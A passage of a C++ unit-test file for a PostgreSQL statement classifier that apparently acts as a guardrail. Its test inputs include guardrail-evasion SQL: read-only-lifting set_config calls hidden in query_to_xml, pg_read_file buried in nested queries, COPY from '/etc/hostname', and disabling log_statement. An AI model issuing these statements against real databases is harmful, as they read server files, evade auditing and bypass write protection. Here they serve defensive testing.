  EXPECT_FALSE(one("BEGIN ISOLATION LEVEL REPEATABLE READ").lifts_read_only);
}

TEST(ClassifierTest, OrdinarySettingsAreSession) {
  Statement s = one("SET application_name = 'psql'");
  EXPECT_EQ(s.kind, "set");
  EXPECT_EQ(s.setting, "application_name");
  EXPECT_EQ(s.classes, kSession);
  EXPECT_EQ(one("SET extra_float_digits = 3").classes, kSession);
  EXPECT_EQ(one("SET TIME ZONE 'UTC'").setting, "timezone");
  Statement show = one("SHOW TimeZone");
  EXPECT_EQ(show.kind, "show");
  EXPECT_EQ(show.setting, "timezone");
  EXPECT_EQ(show.classes, kSession);
  EXPECT_EQ(one("SHOW ALL").setting, "all");
  EXPECT_EQ(one("RESET work_mem").kind, "reset");
}

TEST(ClassifierTest, TurningReadOnlyOffLiftsReadOnlyAndIsAdmin) {
  for (auto sql :
       {"SET default_transaction_read_only = off", "SET default_transaction_read_only TO 'false'",
        "SET default_transaction_read_only = 0", "SET LOCAL transaction_read_only TO off",
        "SET default_transaction_read_only TO DEFAULT", "RESET default_transaction_read_only",
        "SET SESSION transaction_read_only = no"}) {
    Statement s = one(sql);
    EXPECT_TRUE(s.lifts_read_only) << sql;
    EXPECT_EQ(s.classes, kSession | kAdmin) << sql;
  }
  Statement on = one("SET default_transaction_read_only = on");
  EXPECT_FALSE(on.lifts_read_only);
  EXPECT_EQ(on.classes, kSession);
}

TEST(ClassifierTest, TransactionCharacteristicsReadWriteLiftReadOnly) {
  EXPECT_TRUE(one("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE").lifts_read_only);
  Statement t = one("SET TRANSACTION READ WRITE");
  EXPECT_TRUE(t.lifts_read_only);
  EXPECT_EQ(t.classes, kTransaction);
  EXPECT_FALSE(one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").lifts_read_only);
  EXPECT_FALSE(one("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY").lifts_read_only);
}

TEST(ClassifierTest, ResetAllAndDiscardAllLiftReadOnly) {
  Statement r = one("RESET ALL");
  EXPECT_EQ(r.setting, "all");
  EXPECT_TRUE(r.lifts_read_only);
  EXPECT_EQ(r.classes, kSession);
  Statement d = one("DISCARD ALL");
  EXPECT_EQ(d.kind, "discard");
  EXPECT_TRUE(d.lifts_read_only);
  EXPECT_FALSE(one("DISCARD PLANS").lifts_read_only);
}

TEST(ClassifierTest, DangerousSettingsAreAdmin) {
  EXPECT_EQ(one("SET session_replication_role = replica").classes, kSession | kAdmin);
  EXPECT_EQ(one("SET log_statement = 'none'").classes, kSession | kAdmin);
  EXPECT_EQ(one("SET debug_print_parse = on").classes, kSession | kAdmin);
  EXPECT_EQ(one("SET lo_compat_privileges = on").classes, kSession | kAdmin);
}

TEST(ClassifierTest, ListenNotifyAreSession) {
  EXPECT_EQ(one("LISTEN jobs").kind, "listen");
  EXPECT_EQ(one("LISTEN jobs").classes, kSession);
  EXPECT_EQ(one("UNLISTEN *").kind, "unlisten");
  EXPECT_EQ(one("NOTIFY jobs, 'x'").kind, "notify");
  EXPECT_EQ(one("NOTIFY jobs, 'x'").classes, kSession);
}

// --- robustness ----------------------------------------------------------------------------

TEST(ClassifierTest, DeeplyNestedTreeIsUnknownNotARead) {
  std::string deep = "SELECT ";
  for (int i = 0; i < 2000; ++i) deep += "f(";
  deep += "1" + std::string(2000, ')');
  Classification c = classify(deep);
  ASSERT_EQ(c.statements.size(), 1u);
  // Too deep for the tree reader: refused as unknown, never taken for a plain read.
  EXPECT_EQ(c.statements[0].classes, kUnknown);
}

TEST(ClassifierTest, FunctionAtTheBottomOfANestedTreeIsFound) {
  std::string nested = "SELECT ";
  for (int i = 0; i < 100; ++i) nested += "coalesce((SELECT ";
  nested += "pg_read_file('x')";
  for (int i = 0; i < 100; ++i) nested += "), 1)";
  Statement s = one(nested);
  EXPECT_TRUE(has_item(s.functions, "pg_read_file"));
  EXPECT_TRUE(has(s.classes, StatementClass::admin));
}

TEST(ClassifierTest, InvalidUtf8NeverCrashes) {
  Classification c = classify("SELECT '\xff\xfe'");
  ASSERT_EQ(c.statements.size(), 1u);
}

// --- writes the unbounded-write guardrail must still see ------------------------------

TEST(ClassifierTest, WhereDecidedByABoundValueCountsAsAbsent) {
  EXPECT_TRUE(one("UPDATE t SET v = 1 WHERE $1").where_absent);
  EXPECT_TRUE(one("DELETE FROM t WHERE $1::bool").where_absent);
  EXPECT_TRUE(one("DELETE FROM t WHERE $1 = $2").where_absent);
  EXPECT_FALSE(one("DELETE FROM t WHERE id = $1").where_absent);
}

TEST(ClassifierTest, BooleanTestsOfConstantsAreConstant) {
  EXPECT_TRUE(one("DELETE FROM t WHERE true IS TRUE").where_absent);
  EXPECT_TRUE(one("DELETE FROM t WHERE false IS NOT TRUE").where_absent);
  EXPECT_FALSE(one("DELETE FROM t WHERE flag IS TRUE").where_absent);
}

TEST(ClassifierTest, MergeCarriesItsUpdatesAndDeletes) {
  Statement s = one("MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET v = 'x'");
  EXPECT_EQ(s.kind, "merge");
  EXPECT_TRUE(has_item(s.nested_kinds, "update"));
  EXPECT_TRUE(s.where_absent);
  Statement bounded = one("MERGE INTO t USING src s ON t.id = s.id WHEN MATCHED THEN DELETE");
  EXPECT_TRUE(has_item(bounded.nested_kinds, "delete"));
  EXPECT_FALSE(bounded.where_absent);
}

TEST(ClassifierTest, UpsertCarriesAnUpdate) {
  Statement s = one("INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET v = 'u'");
  EXPECT_TRUE(has_item(s.nested_kinds, "update"));
  EXPECT_TRUE(has_item(s.nested_kinds, "insert"));
}

TEST(ClassifierTest, CreateTableAsKeepsTheUnboundedDeleteInside) {
  Statement s = one("CREATE TABLE gone AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
  EXPECT_TRUE(s.where_absent);
  EXPECT_TRUE(has_item(s.nested_kinds, "delete"));
}

TEST(ClassifierTest, CopyOfAServerFileIsNamedCopyFile) {
  Statement s = one("COPY t FROM '/etc/hostname'");
  EXPECT_TRUE(has_item(s.nested_kinds, "copy_file"));
  EXPECT_TRUE(s.classes & kAdmin);
  EXPECT_FALSE(has_item(one("COPY t FROM STDIN").nested_kinds, "copy_file"));
}

TEST(ClassifierTest, DoBlocksCallFunctionsTheParserCannotSee) {
  EXPECT_TRUE(one("DO $$BEGIN PERFORM 1; END$$").calls_unknown_functions);
  EXPECT_FALSE(one("SELECT now()").calls_unknown_functions);
}

TEST(ClassifierTest, TwoPhaseCommitOfOtherSessionsIsAdmin) {
  EXPECT_TRUE(one("COMMIT PREPARED 'x'").classes & kAdmin);
  EXPECT_TRUE(one("ROLLBACK PREPARED 'x'").classes & kAdmin);
  EXPECT_FALSE(one("COMMIT").classes & kAdmin);
}

TEST(ClassifierTest, ChangingHowTextIsReadIsFlaggedWhateverTheRoute) {
  EXPECT_TRUE(one("SET client_encoding = 'SJIS'").changes_text_reading);
  EXPECT_TRUE(one("SET NAMES 'SJIS'").changes_text_reading);
  EXPECT_TRUE(one("SET standard_conforming_strings = off").changes_text_reading);
  EXPECT_TRUE(
      one("SELECT set_config('standard_conforming_strings', 'off', false)").changes_text_reading);
  EXPECT_TRUE(one("SELECT set_config(name, 'x', false) FROM t").changes_text_reading);
  EXPECT_TRUE(one("ALTER DATABASE app SET standard_conforming_strings = off").changes_text_reading);
  EXPECT_FALSE(one("RESET client_encoding").changes_text_reading);
  EXPECT_FALSE(one("SET application_name = 'x'").changes_text_reading);
}

}  // namespace
TEST(ClassifierTest, CopyToTheClientKeepsItsRowFormat) {
  const auto csv =
      one("copy public.customers (id, email) to stdout with (format csv, header, delimiter ';', "
          "null 'NULL', quote '''', escape '!')");
  ASSERT_TRUE(csv.copy.has_value());
  EXPECT_EQ(csv.copy->format, "csv");
  EXPECT_TRUE(csv.copy->header);
  EXPECT_EQ(csv.copy->delimiter, ";");
  EXPECT_EQ(csv.copy->quote, "'");
  EXPECT_EQ(csv.copy->escape, "!");
  EXPECT_EQ(csv.copy->null, std::optional<std::string>("NULL"));
  EXPECT_EQ(csv.copy->table, "public.customers");
  EXPECT_EQ(csv.copy->columns, (std::vector<std::string>{"id", "email"}));

  // The old syntax gives the same options.
  const auto old = one("copy customers to stdout csv header");
  ASSERT_TRUE(old.copy.has_value());
  EXPECT_EQ(old.copy->format, "csv");
  EXPECT_TRUE(old.copy->header);
  EXPECT_TRUE(old.copy->columns.empty());

  const auto text = one("copy (select 1) to stdout");
  ASSERT_TRUE(text.copy.has_value());
  EXPECT_EQ(text.copy->format, "text");
  EXPECT_FALSE(text.copy->header);
  EXPECT_EQ(text.copy->table, "");
  EXPECT_FALSE(one("copy t to stdout with (format csv, header false)").copy->header);
  EXPECT_EQ(one("copy t to stdout (format binary)").copy->format, "binary");
  // A server file is no client COPY.
  EXPECT_FALSE(one("copy t to '/tmp/x'").copy.has_value());
}

// --- functions a read may call ----------------------------------------------------------

TEST(ClassifierTest, SqlTextOfQueryToXmlIsClassifiedAsItsStatement) {
  Statement lift = one(
      "SELECT query_to_xml('SELECT set_config(''default_transaction_read_only'',''off'',false)', "
      "true, true, '')");
  EXPECT_TRUE(lift.lifts_read_only);
  EXPECT_TRUE(has(lift.classes, StatementClass::admin));
  EXPECT_TRUE(has_item(lift.functions, "set_config"));

  Statement kill = one("SELECT query_to_xml('select pg_terminate_backend(123)',true,true,'')");
  EXPECT_TRUE(has(kill.classes, StatementClass::admin));

  Statement stat = one("SELECT ts_stat('SELECT * FROM secret')");
  EXPECT_TRUE(has_item(stat.tables_read, "secret"));
  EXPECT_EQ(stat.classes, kRead);

  Statement rewrite = one("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')");
  EXPECT_TRUE(has_item(rewrite.tables_read, "aliases"));
  EXPECT_EQ(one("SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)").classes, kRead);

  Statement nested =
      one("SELECT query_to_xml('SELECT query_to_xml(''SELECT * FROM secret'', true, true, '''')', "
          "true, true, '')");
  EXPECT_TRUE(has_item(nested.tables_read, "secret"));
  EXPECT_EQ(nested.classes, kRead);

  Statement table = one("SELECT table_to_xml('Public.Secret', true, true, '')");
  EXPECT_TRUE(has_item(table.tables_read, "public.secret"));
  EXPECT_EQ(table.classes, kRead);
}

TEST(ClassifierTest, ComputedSqlTextIsUnknown) {
  for (const char* sql : {
           "SELECT query_to_xml(q, true, true, '') FROM queries",
           "SELECT query_to_xml('SELECT ' || 1, true, true, '')",
           "SELECT ts_stat(current_setting('x'))",
           "SELECT table_to_xml(t::regclass, true, true, '') FROM names",
           "SELECT cursor_to_xml('c', 10, true, true, '')",
           "SELECT query_to_xml('not sql at all', true, true, '')",
           "SELECT query_to_xml('VACUUM', true, true, '')",
       }) {
    Statement s = one(sql);
    EXPECT_TRUE(has(s.classes, StatementClass::unknown)) << sql;
  }
}

TEST(ClassifierTest, SchemaAndDatabaseDumpsTouchEveryTable) {
  Statement s = one("SELECT schema_to_xml('public', true, true, '')");
  EXPECT_TRUE(s.touches_all_tables);
  EXPECT_TRUE(has(s.classes, StatementClass::unknown));
  Statement d = one("SELECT pg_catalog.database_to_xmlschema(true, true, '')");
  EXPECT_TRUE(d.touches_all_tables);
  EXPECT_TRUE(has(d.classes, StatementClass::unknown));
}

TEST(ClassifierTest, FunctionsThatChangeDataAreWrite) {
  for (const char* sql : {"SELECT nextval('s')", "SELECT setval('s', 1)",
                          "SELECT pg_notify('c','x')", "SELECT lo_from_bytea(0,'x')",
                          "SELECT pg_catalog.lo_unlink(42)", "SELECT lo_put(42, 0, 'x')"}) {
    Statement s = one(sql);
    EXPECT_TRUE(has(s.classes, StatementClass::write)) << sql;
    EXPECT_FALSE(has(s.classes, StatementClass::unknown)) << sql;
  }
}

TEST(ClassifierTest, FunctionsOffTheReadListAreUnknown) {
  for (const char* sql : {
           "SELECT my_schema.f()",
           "SELECT f(1)",
           "SELECT public.lower('x')",  // another schema's lower is not pg_catalog's
           "SELECT \"Lower\"('x')",
           "SELECT txid_current()",
           "SELECT pg_current_xact_id()",
           "SELECT pg_advisory_lock(1)",
           "SELECT pg_try_advisory_xact_lock(1)",
           "SELECT * FROM generate_series(1, 3) g WHERE my_check(g)",
           "SELECT pg_config()",
       }) {
    Statement s = one(sql);
    EXPECT_TRUE(has(s.classes, StatementClass::unknown)) << sql;
  }
}

TEST(ClassifierTest, CatalogFunctionsAggregatesAndWindowsStayRead) {
  for (const char* sql : {
           "SELECT count(*), now(), lower(name) FROM t",
           "SELECT pg_catalog.count(*), sum(x), row_number() OVER (ORDER BY x) FROM t",
           "SELECT random(), clock_timestamp(), gen_random_uuid(), currval('s'), pg_sleep(0)",
           "SELECT pg_catalog.pg_get_viewdef('v'::regclass), format_type(23, -1), "
           "pg_get_expr(adbin, adrelid), obj_description(1, 'pg_class'), acldefault('r', 10), "
           "pg_get_userbyid(10), array_to_string(ARRAY[1], ',')",
           "SELECT coalesce(a, b), greatest(a, b), nullif(a, b), CAST(a AS text), "
           "extract(year FROM now()), substring('abc' FROM 2), trim(' x ') FROM t",
           "SELECT last_value, is_called FROM seq",
           "SELECT current_setting('search_path'), pg_size_pretty(pg_database_size('x'))",
       }) {
    Statement s = one(sql);
    EXPECT_EQ(s.classes, kRead) << sql;
  }
}

// The classifier finds names in the generated list by binary search.
TEST(ClassifierTest, ReadFunctionListIsSortedAndUnique) {
  static constexpr std::string_view kList[] = {
#include "sql/postgres/read_functions.inc"
  };
  EXPECT_GT(std::size(kList), 2000u);
  for (std::size_t i = 1; i < std::size(kList); ++i) EXPECT_LT(kList[i - 1], kList[i]) << kList[i];
  for (std::string_view name :
       {kList[0], kList[std::size(kList) - 1], std::string_view("xmlagg")}) {
    const std::string sql = "SELECT " + std::string(name) + "(x) FROM t";
    EXPECT_FALSE(has(one(sql).classes, StatementClass::unknown)) << sql;
  }
}

TEST(ClassifierTest, ExpressionsStoredByDdlDoNotRunTheirFunctions) {
  Statement t = one("CREATE TABLE t (id bigint DEFAULT nextval('s'), x int CHECK (my_check(x)))");
  EXPECT_EQ(t.classes, kDdl);
  EXPECT_EQ(one("CREATE VIEW v AS SELECT my_schema.f()").classes, kDdl);
}

TEST(ClassifierTest, SetConfigFromPgSettingsNamesTheSetting) {
  // pg_dump 15: the name comes from the one pg_settings row the WHERE picks.
  Statement s =
      one("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = "
          "'restrict_nonsystem_relation_kind'");
  EXPECT_EQ(s.classes, kRead | kSession);
  EXPECT_FALSE(s.lifts_read_only);
  Statement lift =
      one("SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = "
          "'default_transaction_read_only'");
  EXPECT_TRUE(lift.lifts_read_only);
  Statement any = one("SELECT set_config(name, 'off', false) FROM pg_settings");
  EXPECT_TRUE(any.lifts_read_only);
  EXPECT_TRUE(has(any.classes, StatementClass::admin));
}

TEST(ClassifierTest, LockInAccessShareModeIsRead) {
  EXPECT_EQ(one("LOCK TABLE public.customers IN ACCESS SHARE MODE").classes, kRead);
  EXPECT_EQ(one("LOCK TABLE t").classes, kWrite);
  EXPECT_EQ(one("LOCK TABLE t IN ROW EXCLUSIVE MODE").classes, kWrite);
}

TEST(ClassifierTest, CursorStatementsNameTheirCursor) {
  Statement f = one("FETCH 10 FROM c1");
  EXPECT_EQ(f.kind, "fetch");
  EXPECT_EQ(f.cursor_name, "c1");
  Statement m = one("MOVE FORWARD ALL IN \"My Cursor\"");
  EXPECT_EQ(m.kind, "move");
  EXPECT_EQ(m.cursor_name, "My Cursor");
  Statement c = one("CLOSE c1");
  EXPECT_EQ(c.kind, "close");
  EXPECT_EQ(c.cursor_name, "c1");
  Statement d = one("DECLARE c2 CURSOR FOR SELECT 1");
  EXPECT_EQ(d.cursor_name, "c2");
}

TEST(ClassifierTest, ColumnLineage) {
  Statement s = one("SELECT c.name, lower(Email), \"Mixed\" FROM customers c WHERE id = 1");
  EXPECT_TRUE(has_item(s.columns_referenced, "name"));
  EXPECT_TRUE(has_item(s.columns_referenced, "email"));
  EXPECT_TRUE(has_item(s.columns_referenced, "Mixed"));
  EXPECT_TRUE(has_item(s.columns_referenced, "id"));
  EXPECT_FALSE(s.whole_row_reference);

  EXPECT_FALSE(one("SELECT * FROM customers").whole_row_reference);
  EXPECT_FALSE(one("SELECT t.*, 1 FROM customers t").whole_row_reference);
  for (const char* sql : {
           "SELECT row_to_json(t.*) FROM customers t",
           "SELECT count(t.*) FROM customers t",
           "SELECT ROW(t.*) FROM customers t",
           "SELECT row_to_json(t) FROM customers t",
           "SELECT t FROM customers t",
           "SELECT t::text FROM customers t",
           "SELECT customers FROM customers",
           "SELECT x FROM (SELECT * FROM customers) x",
           "SELECT (SELECT row_to_json(c) FROM customers c LIMIT 1)",
           "COPY (SELECT to_json(t) FROM customers t) TO STDOUT",
       }) {
    EXPECT_TRUE(one(sql).whole_row_reference) << sql;
  }
  // A function call's alias names the function's own value, not a relation's row: pg_dump
  // reads `SELECT o FROM unnest(a.attoptions) o`. A table alias of the same name elsewhere
  // still counts.
  EXPECT_FALSE(one("SELECT o FROM unnest(ARRAY[1]) o").whole_row_reference);
  EXPECT_TRUE(one("SELECT (SELECT o FROM unnest(ARRAY[1]) o), (SELECT o FROM customers o)")
                  .whole_row_reference);
  Statement copy = one("COPY (SELECT email FROM customers) TO STDOUT");
  EXPECT_TRUE(has_item(copy.columns_referenced, "email"));
}

}  // namespace portcullis::sql::postgres
